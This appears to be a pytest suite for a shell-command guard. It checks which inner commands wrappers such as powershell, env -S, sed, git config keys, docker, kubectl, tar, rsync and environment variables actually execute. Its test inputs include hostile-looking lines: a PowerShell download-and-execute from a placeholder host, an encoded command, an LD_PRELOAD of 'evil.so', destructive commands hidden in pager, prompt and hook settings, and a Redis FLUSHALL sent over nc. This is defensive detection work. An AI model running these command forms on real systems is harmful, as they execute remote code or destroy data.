"""What each wrapper's smaller words make it run, and which of them make it run nothing; and the texts on standard
input. The answers are those of the tools' own manuals."""

from __future__ import annotations

import shlex
from collections.abc import Callable

import pytest

TEXTS = {
    "/home/u/proj/x.cmake": "execute_process(COMMAND rm x)",
    "/home/u/proj/y.cmake": "message(x)",
    "/home/u/proj/t.bats": '@test "a" {\nrm x\n}\n',
    "/home/u/proj/Rakefile": 'task :default => [:clean]\ntask :clean do\n  sh "rm x"\nend\nnamespace :db do\n  task drop: :clean do\n    sh "dropdb x"\n  end\nend\n',
    "/home/u/proj/justfile": 'set shell := ["x"]\nv := "val"\n# c\nclean: && b\n  @rm {{v}}\n\nb:\n  -rm b\ndeep x y="d" +z="q": clean\n  rm {{x}} {{ y }} {{z}} {{env("A")}}\nscript:\n  #!/bin/sh\n  rm script\n',
    "/home/u/proj/other": "a:\n  rm other\n",
    "/home/u/proj/Taskfile.yml": 'version: 3\n# c\nvars:\n  A: b\ntasks:\n  default:\n    deps: [one, two]\n    cmds:\n      - task: clean\n      - rm {{.X}}\n  clean:\n    cmds:\n      - cmd: rm clean\n      - defer: rm later\n    desc: text\n  one: rm one\n  two: ["rm two"]\nother: x\n',
    "/home/u/proj/a.py": "import os",
    "/home/u/proj/deno.json": '{"tasks":{"x":"rm x"}}',
    "/tmp/g/config": "[core]\n\tpager = rm x\n; c\n[user]\nname = y\n",
}

LINES = [
    ("powershell -c 'ri -rec -fo C:\\x'", ["argv remove-item -Recurse -Force C:\\x"]),
    ("powershell -c 'iex (iwr https://x.io/a)'", ["argv invoke-webrequest https://x.io/a", "opaque"]),
    ("powershell -c 'iex \"ri x\"'", ["argv powershell -Command ri x"]),
    ("powershell -c 'iex $x $y'", ["opaque"]),
    ("powershell -c '[IO.Directory]::Delete(\"C:\\x\", $true)'", ["argv remove-item -Recurse C:\\x"]),
    ("powershell -c '[IO.File]::Delete(\"C:\\x\")'", ["argv remove-item C:\\x"]),
    ("powershell -c 'saps rm x'", ["argv rm x"]),
    ("powershell -c 'icm -ScriptBlock'", []),
    ("powershell -c 'saps'", []),
    ("powershell -c 'ri ~/x'", ["argv remove-item /home/u/x"]),
    ("powershell -c 'C:\\bin\\Tool.EXE x'", ["argv C:\\bin\\Tool.EXE x"]),
    ("powershell -c 'ri -WhatIf:$true x'", ["argv remove-item -WhatIf x"]),
    ("powershell -c 'ri -z x'", ["argv remove-item -z x"]),
    ("powershell -", []),
    ("powershell -Command -", []),
    ("powershell -EncodedCommand cgBtACAAeAA=", ["argv remove-item x", "opaque"]),
    ("powershell -enc '%%%'", ["opaque"]),
    ("powershell -enc", ["opaque"]),
    ("powershell -File a.ps1 x", []),
    ("powershell -ExecutionPolicy Bypass -NoProfile ri x", ["argv remove-item x"]),
    ("powershell -help", []),
    ("powershell -v", []),
    ("powershell", []),
    ("pwsh a.ps1 x", []),
    ('cmd /c "call del x"', ["argv del x"]),
    ('cmd /c "@del x & echo y"', ["argv del x"]),
    ('cmd //c "del x"', ["argv del x"]),
    ("cmd /cdel x", ["argv del x"]),
    ("cmd /c", []),
    ("cmd x", []),
    ('cmd /q /c "rd /S x"', ["argv rd /s x"]),
    ("cmd", []),
    ('cmd /c "%X% y"', ["argv y"]),
    ("env -S '-i rm x'", ["argv rm x"]),
    ("env -S 'rm \\_x'", ["argv rm x"]),
    ("env -S 'rm \"a\\_b\"'", ["argv rm a b"]),
    ("env -S 'rm x\\c y'", ["argv rm x"]),
    ("env -S 'rm ${FOO} x'", ["argv rm  x"]),
    ("env -S 'rm # comment'", ["argv rm"]),
    ("env -S \"rm '\\$x' y\"", ["argv rm \\$x y"]),
    ("env -S 'rm a\\nb'", ["argv rm a\nb"]),
    ("env -S 'rm \"\"'", ["argv rm "]),
    ("env -C /tmp rm x", ["argv rm x"]),
    ("env --chdir=/tmp rm x", ["argv rm x"]),
    ("env --ignore-env rm x", ["argv rm x"]),
    ("env --unknown rm x", ["argv rm x"]),
    ("env --ch /tmp rm x", ["argv rm x"]),
    ("env -iu A rm x", ["argv rm x"]),
    ("env - rm x", ["argv rm x"]),
    ("env -- rm x", ["argv rm x"]),
    ("env -0 rm x", ["argv rm x"]),
    ("env -uA rm x", ["argv rm x"]),
    ("sed e f", ["opaque"]),
    ("sed '1e rm x' f", ["text rm x"]),
    ("sed 's/a/rm x/e' f", ["text rm x", "opaque"]),
    ("sed 's/a/&/e' f", ["opaque"]),
    ("sed 's/a/b/w out' f", []),
    ("sed 's/[/]/b/e' f", ["text b", "opaque"]),
    ("sed 'y/abc/def/;e rm' f", ["text rm"]),
    ("sed '/x/I e rm x' f", ["text rm x"]),
    ("sed '\\,x, e rm x' f", ["text rm x"]),
    ("sed -e 'a\\' -e 'e rm x' f", ["text rm x"]),
    ("sed ':a;ba;e rm x' f", ["text rm x"]),
    ("sed '# e rm x' f", []),
    ("sed --sandbox '1e rm x' f", []),
    ("sed -n '$!{e rm x\n}' f", ["text rm x"]),
    ("sed s", []),
    ("sed 's/a\\/b/c/e' f", ["text c", "opaque"]),
    ("sed 'a e rm x' f", []),
    ("sed '1,5p' f", []),
    ("git -c core.pager=cat log", []),
    ("git -c core.pager='less x' log", ["text less x"]),
    ("git -c include.path=/tmp/x log", ["opaque"]),
    ("git -c include.path=x log", []),
    ("git -c core.hooksPath=x log", ["opaque"]),
    ("git -c submodule.x.update='!rm x' submodule update", ["text rm x", "opaque"]),
    ("git -c submodule.x.update=rebase submodule update", []),
    ("git -c credential.helper=store fetch", []),
    ("git -c credential.helper=/tmp/x fetch", ["text /tmp/x"]),
    ("git -c credential.helper='!rm x' fetch", ["text rm x", "opaque"]),
    ("git -c user.name=x log", []),
    ("git -c core.pager log", []),
    ("git --exec-path=/tmp/e status", ["opaque"]),
    ("git --exec-path", []),
    ("git --config-env=core.pager=X log", ["opaque"]),
    ("git --config-env=user.name=X log", []),
    ("git --git-dir=/tmp/g status", ["text rm x", "opaque"]),
    ("git help x", []),
    ("git bisect run rm x", ["argv rm x"]),
    ("git bisect run", []),
    ("git bisect start", []),
    ("git init --template=/tmp/t", ["opaque"]),
    ("git init --template=t", []),
    ("git clone --template=/tmp/t u", ["opaque"]),
    ("git clone -c core.pager='rm x' u", ["text rm x", "opaque"]),
    ("git clone 'ext::rm x% y %% z' d", ["argv rm x y % z"]),
    ("git clone 'ext::' d", []),
    ("git fetch --upload-pack='rm x' o", ["text rm x", "opaque"]),
    ("git fetch --upload-pack=git-upload-pack o", ["text git-upload-pack"]),
    ("git submodule foreach rm x", ["argv rm x"]),
    ("git submodule foreach 'rm x'", ["text rm x"]),
    ("git submodule foreach --recursive rm x", ["argv rm x"]),
    ("git submodule update", []),
    ("git rebase -x 'rm x' HEAD~1", ["text rm x"]),
    ("git grep -O'rm x' y", ["text rm x", "opaque"]),
    ("docker run -v data alpine rm x", ["@argv rm x"]),
    ("docker run -v '' alpine rm x", ["@argv rm x"]),
    ("docker run -v /a:/b:ro alpine rm /b/x", ["@argv rm /b/x"]),
    ("docker run -v /a:/b:rw alpine rm /b/x", ["@argv rm /b/x", "argv rm /a/x"]),
    ("docker run -v vol:/b alpine rm /b/x", ["@argv rm /b/x"]),
    ("docker run -v /a alpine rm /a/x", ["@argv rm /a/x"]),
    ("docker run --mount type=bind,source=/a,target=/b alpine rm /b/x", ["@argv rm /b/x", "argv rm /a/x"]),
    ("docker run --mount type=bind,src=/a,dst=/b,readonly alpine rm /b/x", ["@argv rm /b/x"]),
    ("docker run --mount type=volume,source=v,target=/b alpine rm /b/x", ["@argv rm /b/x"]),
    ("docker run -v /a/c:/b/c alpine rm -r /b", ["@argv rm -r /b", "argv rm -r /a/c"]),
    ("docker run -v /a:/b alpine sh -c 'rm /b/x'", ["@argv sh -c rm /b/x", "argv sh -c rm /a/x"]),
    ("docker run -v /a:/b -w /b alpine rm x", ["@argv rm x", "argv rm x"]),
    ("docker run -v /a:/b -w /c alpine rm x", ["@argv rm x"]),
    ("docker run --entrypoint rm alpine x", ["@argv rm x"]),
    ("docker run --entrypoint '' alpine rm x", ["@argv rm x"]),
    ("docker run alpine", []),
    ("docker run", []),
    ("docker container exec db rm x", ["@argv rm x"]),
    ("docker exec db", []),
    ("docker compose exec web rm x", ["@argv rm x"]),
    ("docker compose run --entrypoint 'rm x' web y", ["@text rm x y"]),
    ("docker compose run web", []),
    ("docker compose up", []),
    ("docker-compose exec web rm x", ["@argv rm x"]),
    ("kubectl exec p -- rm x", ["@argv rm x"]),
    ("kubectl exec p rm x", ["@argv rm x"]),
    ("kubectl exec p", []),
    ("kubectl debug p", []),
    ("kubectl run x --image=i --dry-run=client -- rm x", []),
    ("kubectl run x --image=i --dry-run=none -- rm x", ["@argv rm x"]),
    ("kubectl get pods", []),
    ("k3s kubectl exec p -- rm x", ["@argv rm x"]),
    ("bats t.bats", ["text {\nrm x\n}\n"]),
    ("bats --count t.bats", []),
    ("bash -O extglob -c 'rm x'", ["text rm x"]),
    ("bash +x -c 'rm x'", ["text rm x"]),
    ("bash --rcfile x -c ls", ["file bash x", "text ls"]),
    ("bash --init-file=x", ["file bash x", "stdin bash"]),
    ("bash --rcfile", ["stdin bash"]),
    ("bash -i", []),
    ("bash - a", ["file bash a"]),
    ("bash -s a", ["stdin bash"]),
    ("bash -n -c 'rm x'", []),
    ("fish -C 'rm x' -c ls", ["text rm x", "text ls"]),
    ("fish -d 3 -c 'rm x'", ["text rm x"]),
    ("fish --init-command='rm x'", ["text rm x", "stdin fish"]),
    ("fish --command 'rm x'", ["text rm x"]),
    ("cmake -E rm x", ["argv rm x"]),
    ("cmake -E remove_directory x", ["argv rm -r x"]),
    ("cmake -E rename a b", ["argv mv a b"]),
    ("cmake -E copy a b", ["argv cp a b"]),
    ("cmake -E env A=1 --unset=B rm x", ["argv rm x"]),
    ("cmake -E env", []),
    ("cmake -E time rm x", ["argv rm x"]),
    ("cmake -E chdir d rm x", ["argv rm x"]),
    ("cmake -E chdir d", []),
    ("cmake -E echo x", []),
    ("cmake -P x.cmake", ["opaque"]),
    ("cmake -P y.cmake", []),
    ("cmake -P z.cmake", ["opaque"]),
    ("cmake --build .", []),
    ("cmake -P", []),
    ("ninja", []),
    ("rake -T", []),
    ("rake", ['argv ruby -e sh "rm x"']),
    ("rake db:drop", ['argv ruby -e sh "rm x"\nsh "dropdb x"']),
    ("rake -f x", []),
    (
        "python -m timeit -s 'import os' 'os.system(\"rm x\")'",
        ['argv python -c import os\nos.system("rm x")'],
    ),
    ("python -m pdb -c '!import os; os.system(\"rm x\")' a.py", ["text rm x", "file python a.py"]),
    ("python -m pdb a.py", ["file python a.py"]),
    ("python -m coverage run -a a.py", ["file python a.py"]),
    ("python -m coverage report", ["argv coverage report"]),
    ("python -m cProfile -s cumtime a.py", ["file python a.py"]),
    ("python -m cProfile", []),
    ("python -m pytest x", ["argv pytest x"]),
    ("python a.py", ["file python a.py"]),
    ("python - a", ["stdin python"]),
    ("python -c 'exec(open(\"a.py\").read())'", ["file python a.py"]),
    ('python -c \'import subprocess; subprocess.run(["sh"], input="rm x", text=True)\'', ["argv sh"]),
    ("deno task x", ["text rm x"]),
    ("just", ["text rm val", "text rm b"]),
    ("just clean", ["text rm val", "text rm b"]),
    ("just -n", []),
    ("just -c rm x", ["argv rm x"]),
    ("just --command rm x", ["argv rm x"]),
    (
        "just deep a b",
        ["text export JUST_VALUE=$(locale); rm a b q ${JUST_VALUE}", "text rm val", "text rm b"],
    ),
    ("just script", ["text #!/bin/sh\nrm script"]),
    ("just nothing", []),
    ("just -f other", ["text rm other"]),
    (
        "task",
        [
            "text rm ${X}",
            "text rm one",
            "text rm two",
            "text rm clean",
            "text rm later",
        ],
    ),
    ("task clean", ["text rm clean", "text rm later"]),
    ("task --list", []),
    ("task one", ["text rm one"]),
    ("socat EXEC:'rm x' -", ["text rm x"]),
    ("socat SYSTEM:'rm x' -", ["text rm x"]),
    ("fzf --bind 'enter:execute(rm x)'", ["text rm x"]),
    ("fzf --preview 'rm x'", ["text rm x"]),
    ("tar -I 'rm x' -xf a", ["text rm x", "opaque"]),
    ("tar --use-compress-program=gzip -xf a", ["text gzip"]),
    ("tar --to-command='rm x' -xf a", ["text rm x", "opaque"]),
    ("tar --checkpoint-action=exec='rm x' -cf a b", ["text rm x", "opaque"]),
    ("tar --checkpoint-action=dot -cf a b", []),
    ("rsync -e 'rm x' a b", ["text rm x", "opaque"]),
    ("rsync -avze 'ssh -p 2' a b", ["text ssh -p 2"]),
    ("java -agentpath:/tmp/x A", ["opaque"]),
    ("rpm --eval '%(rm x)'", ["text rm x"]),
    ("rpm --eval '%x'", []),
    ("nmap --script /tmp/x.nse h", ["opaque"]),
    ("rg --pre /tmp/x y", ["argv /tmp/x ⟨a file that the tool reads⟩", "opaque"]),
    ("rg --pre 'rm x' y", ["argv rm x ⟨a file that the tool reads⟩", "text rm x"]),
    ("rg --pre cat y", ["argv cat ⟨a file that the tool reads⟩"]),
    ("scp -o ProxyCommand='rm x' a b", ["text rm x", "opaque"]),
    ("scp -o ProxyCommand=none a b", []),
    ("scp -o ProxyCommand='nc %h %p' a b", ["text nc %h %p"]),
    ("sftp -S 'rm x' h", ["text rm x", "opaque"]),
    ("nc localhost 6379", []),
    ("wget --use-askpass='rm x' u", ["argv rm x ⟨a file that the tool reads⟩", "text rm x"]),
    ("zip -TT 'rm x' a b", ["text rm x", "opaque"]),
    ("man -P 'rm x' y", ["text rm x", "opaque"]),
    ("man -P less y", ["text less"]),
]


@pytest.mark.parametrize(("line", "expected"), LINES)
def test_what_the_smaller_words_make_it_run(
    line: str, expected: list[str], answers: Callable[..., list[str]]
) -> None:
    assert answers(line, texts=TEXTS) == expected


SPOKEN = [
    ("nc localhost 6379", "FLUSHALL\\r\\n*1\\r\\n", ["argv redis-cli -h localhost -p 6379 FLUSHALL"]),
    ("nc localhost 80", "FLUSHALL", []),
    ("kubectl exec -i p", "rm x", ["@stdin sh"]),
    ("powershell -", "ri x", ["argv remove-item x"]),
    ("powershell -Command -", "ri x", ["argv remove-item x"]),
    ("powershell", "ri x", ["argv remove-item x"]),
    ("cmd", "del x", ["argv del x"]),
    ("bash -i", "rm x", ["stdin bash"]),
    ("python -", "import os", ["stdin python"]),
]


@pytest.mark.parametrize(("line", "text", "expected"), SPOKEN)
def test_what_is_said_on_standard_input(
    line: str, text: str, expected: list[str], answers: Callable[..., list[str]]
) -> None:
    assert answers(line, text, TEXTS) == expected


DELETES = [
    pytest.param(
        "[IO.Directory]::Delete('C:\\x', $true)", ["argv remove-item -Recurse C:\\x"], id="a folder"
    ),
    pytest.param('[IO.File]::Delete("C:\\x")', ["argv remove-item C:\\x"], id="a file"),
    pytest.param("[void][System.IO.File]::Delete('a b')", ["argv remove-item a b"], id="a cast before it"),
    pytest.param("[IO.File]::Delete($p)", ["argv remove-item ⟨$p⟩"], id="a path that is not known"),
    pytest.param('[IO.File]::Delete("$p/x")', ["argv remove-item ⟨$p/x⟩"], id="a path that is computed"),
    pytest.param(
        "[IO.File]::Delete('a'); [IO.File]::Delete('b')",
        ["argv remove-item a", "argv remove-item b"],
        id="two of them",
    ),
    pytest.param("[IO.File]::Exists('C:\\x')", None, id="looking"),
    pytest.param("Write-Output \"[IO.File]::Delete('x')\"", None, id="talking about it"),
]


@pytest.mark.parametrize(("text", "expected"), DELETES)
def test_what_dotnet_deletes_from_powershell(
    text: str, expected: list[str] | None, answers: Callable[..., list[str]]
) -> None:
    found = answers(f"pwsh -Command {shlex.quote(text)}")
    if expected is None:
        assert not any("remove-item" in each for each in found)
    else:
        assert found == expected


VARIABLES = [
    (
        "git log",
        {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.pager", "GIT_CONFIG_VALUE_0": "rm x"},
        ["text rm x", "opaque"],
    ),
    (
        "git log",
        {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "alias.x", "GIT_CONFIG_VALUE_0": "!rm x"},
        ["text rm x", "opaque"],
    ),
    ("git log", {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "user.name", "GIT_CONFIG_VALUE_0": "rm x"}, []),
    ("git log", {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "core.pager"}, []),
    ("git log", {"GIT_CONFIG_PARAMETERS": "'core.pager'='rm x'"}, ["text rm x", "opaque"]),
    ("git log", {"GIT_CONFIG_PARAMETERS": "'user.name=x' 'core.pager=rm x'"}, ["text rm x", "opaque"]),
    ("git log", {"GIT_CONFIG_GLOBAL": "/dev/null"}, []),
    ("git log", {"GIT_CONFIG_GLOBAL": "/tmp/x"}, ["opaque"]),
    ("git log", {"GIT_CONFIG_GLOBAL": "x"}, []),
    ("git log", {"GIT_PAGER": "cat"}, []),
    ("git log", {"GIT_PAGER": "less -R"}, ["text less -R"]),
    ("git log", {"GIT_PAGER": "rm x"}, ["text rm x", "opaque"]),
    ("git fetch", {"GIT_SSH_COMMAND": "ssh -i k"}, ["text ssh -i k"]),
    ("git fetch", {"GIT_SSH_COMMAND": "sh -c id"}, ["text sh -c id", "opaque"]),
    ("", {"EDITOR": "rm"}, ["opaque"]),
    ("ls", {"LD_PRELOAD": "/x/evil.so"}, ["opaque"]),
    ("ls", {"LD_PRELOAD": "/usr/lib/libjemalloc.so.2"}, []),
    ("ls", {"LD_LIBRARY_PATH": "/usr/lib"}, []),
    ("ls", {"LD_LIBRARY_PATH": "/tmp"}, ["note"]),
    ("vi x", {"EXINIT": "set nu"}, []),
    ("vi x", {"EXINIT": "!rm x"}, ["opaque"]),
    ("bash", {"BASH_ENV": "/dev/null"}, []),
    ("bash", {"BASH_ENV": "x.sh"}, ["file bash x.sh"]),
    ("bash", {"BASH_ENV": "$(rm x)"}, ["text $(rm x)"]),
    ("sh", {"ENV": "production"}, []),
    ("sh", {"ENV": "./x"}, ["file bash ./x"]),
    ("python x", {"PYTHONSTARTUP": "a.py"}, []),
    ("python", {"PYTHONSTARTUP": "a.py"}, ["opaque"]),
    ("", {"RPROMPT": "$(rm x)"}, ['text : "$(rm x)"']),
    ("", {"PROMPT": "$(rm x)"}, ['text : "$(rm x)"']),
    ("", {"PS0": "$(rm x)"}, ['text : "$(rm x)"']),
    ("", {"PS2": '\\[$(rm "x")\\]'}, ['text : $(rm "x")']),
    ("", {"PS1": "$(rm x)"}, ['text : "$(rm x)"']),
    ("ls", {"PS1": "$(rm x)"}, []),
    ("bash x", {"PS4": "$(rm x)"}, ['text : "$(rm x)"']),
    ("", {"PS1": "> "}, []),
    ("bash", {"PROMPT_COMMAND": "rm x"}, ["text rm x"]),
    ("ls", {"PROMPT_COMMAND": "rm x"}, []),
    ("node x", {"NODE_OPTIONS": "--max-old-space-size=4096"}, []),
    ("node x", {"NODE_OPTIONS": "--require ./x"}, ["opaque"]),
    ("perl x", {"PERL5OPT": "-Mx"}, ["opaque"]),
    ("perl x", {"PERL5OPT": "-w"}, []),
    ("ruby x", {"RUBYOPT": "-r./x"}, ["opaque"]),
    ("ruby x", {"RUBYOPT": "-W0"}, []),
    ("perl -d x", {"PERL5DB": "rm"}, ["argv perl -e rm", "opaque"]),
    ("less x", {"LESSOPEN": "|rm %s"}, ["text rm FILE"]),
    ("less x", {"LESSOPEN": "| /usr/bin/lesspipe %s"}, []),
    ("python x", {"PYTHONWARNINGS": "ignore"}, []),
    ("python x", {"PYTHONWARNINGS": "all:0:antigravity.x:0:0"}, ["opaque"]),
    ("make", {"MAKEFLAGS": "-j4"}, []),
    ("make", {"MAKEFLAGS": "SHELL=/tmp/x"}, ["opaque"]),
    ("make", {"MAKEFLAGS": "--eval=x"}, ["opaque"]),
    ("zsh", {"ZDOTDIR": "/x"}, ["file zsh /x/.zshenv"]),
    ("make", {"CC": "rm x"}, ["text rm x"]),
]


@pytest.mark.parametrize(("line", "variables", "expected"), VARIABLES)
def test_what_variables_make_it_run(
    line: str, variables: dict[str, str], expected: list[str], because_of: Callable[..., list[str]]
) -> None:
    assert because_of(line, **variables) == expected


def test_code_that_is_too_long_to_read_is_said_to_be(answers: Callable[..., list[str]]) -> None:
    code = '(system "rm x")'
    assert answers(f"guile -c {shlex.quote(code + ' ' * (65_536 - len(code)))}") == ["text rm x"]
    assert answers(f"guile -c {shlex.quote(code + ' ' * (65_537 - len(code)))}") == ["opaque"]


def test_what_a_program_prints_may_be_several_items() -> None:
    from guard.model import Hole, Invocation, Value, known
    from guard.shell.wrappers.items import pieces

    printed = Hole("what it prints", (Invocation((known("ls"),)),))
    (item,) = pieces(Value((printed,)), "")
    assert isinstance(item.parts[0], Hole) and item.parts[0].splits
    (item,) = pieces(Value((Hole("a word"),)), "")
    assert isinstance(item.parts[0], Hole) and not item.parts[0].splits
